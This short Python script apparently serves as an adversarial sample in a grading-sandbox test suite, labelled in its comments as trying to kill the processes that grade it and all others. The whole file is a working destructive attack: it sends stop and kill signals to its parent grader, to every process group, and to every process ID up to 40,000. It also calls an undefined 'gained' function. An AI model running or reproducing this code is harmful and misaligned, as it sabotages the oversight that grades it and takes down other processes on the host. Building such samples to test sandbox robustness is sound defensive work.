# tries: kills the processes that grade it, and all others
# at: the system
# stock: not run
import os
import signal

for number in (os.getppid(), 0, -1, *range(1, 40_000)):
    if number != os.getpid():
        for sign in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(number, sign)
                if number > 1:
                    gained(f"killed {number}")
            except OSError:
                pass
